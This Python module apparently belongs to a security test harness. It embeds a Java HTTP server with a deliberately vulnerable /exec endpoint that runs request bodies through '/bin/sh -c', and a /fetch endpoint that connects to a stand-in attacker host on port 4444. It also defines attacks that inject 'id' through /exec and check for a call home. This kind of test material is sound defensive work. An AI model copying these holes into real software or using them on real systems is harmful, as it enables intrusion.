"""A server on OpenJDK: pages, uploads by way of a temporary file, and an endpoint that runs what it is given."""

from collections.abc import Callable

from demo.programs.life import Life
from demo.programs.program import Attack, File, Program, called_home, left
from demo.programs.visitor import Visitor

_SERVER = """
import com.sun.net.httpserver.*;
import java.io.*;
import java.net.*;
import java.nio.file.*;
import java.util.*;
import java.util.concurrent.Executors;

public class Hello {
  static void answer(HttpExchange exchange, String text) throws IOException {
    byte[] bytes = text.getBytes();
    exchange.sendResponseHeaders(200, bytes.length);
    try (OutputStream out = exchange.getResponseBody()) { out.write(bytes); }
  }
  static String read(HttpExchange exchange) throws IOException {
    return new String(exchange.getRequestBody().readAllBytes());
  }
  public static void main(String[] arguments) throws Exception {
    HttpServer server = HttpServer.create(new InetSocketAddress(8090), 0);
    server.createContext("/", exchange -> answer(exchange, "Ordinary page"));
    server.createContext("/upload", exchange -> {
      Path temporary = Files.createTempFile("upload", ".bin");
      Files.write(temporary, read(exchange).getBytes());
      Path kept = Path.of("/var/lib/app/" + UUID.randomUUID());
      Files.move(temporary, kept);
      answer(exchange, "kept " + kept);
    });
    server.createContext("/origin", exchange -> {
      try (InputStream in = new URL("http://10.0.0.5:8081/from-java").openStream()) {
        answer(exchange, new String(in.readAllBytes()));
      }
    });
    server.createContext("/exec", exchange -> {
      try {
        Process process = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", read(exchange)});
        answer(exchange, new String(process.getInputStream().readAllBytes()));
      } catch (Exception error) { answer(exchange, error.toString()); }
    });
    server.createContext("/fetch", exchange -> {
      try { new Socket("203.0.113.66", 4444).close(); answer(exchange, "fetched"); }
      catch (Exception error) { answer(exchange, error.toString()); }
    });
    server.setExecutor(Executors.newFixedThreadPool(4));
    server.start();
  }
}
"""


def _load(visitor: Visitor) -> None:
    for _ in range(10):
        visitor.get("/", b"Ordinary")
        visitor.post("/upload", b"data" * 1000, b"kept")
        visitor.get("/origin", b"from-java")
    visitor.run(
        *"ab -q -n 300 -c 10 http://127.0.0.1:8090/".split(), wanted="Failed requests:        0", times=300
    )


def _post(path: str, body: bytes) -> Callable[[Life], object]:
    return lambda life: Visitor(life).fetch(path, body=body)


PROGRAM = Program(
    name="java",
    package="openjdk-17-jdk-headless",
    command=("java", "-cp", "/srv/app", "Hello"),
    user="www-data",
    port=8090,
    load=_load,
    rare=lambda visitor: visitor.life.signal("QUIT"),  # prints its threads
    files=(File("/srv/app/Hello.java", _SERVER),),
    prepare=(
        "javac -d /srv/app /srv/app/Hello.java; rm -rf /tmp/hsperfdata_root",
        "mkdir -p /var/lib/app; chown -R www-data: /var/lib/app",
    ),
    attacks=(
        Attack("Runtime.exec", _post("/exec", b"id > /srv/shared/ran"), left("ran")),
        Attack("server-side request", _post("/fetch", b"x"), called_home),
    ),
)
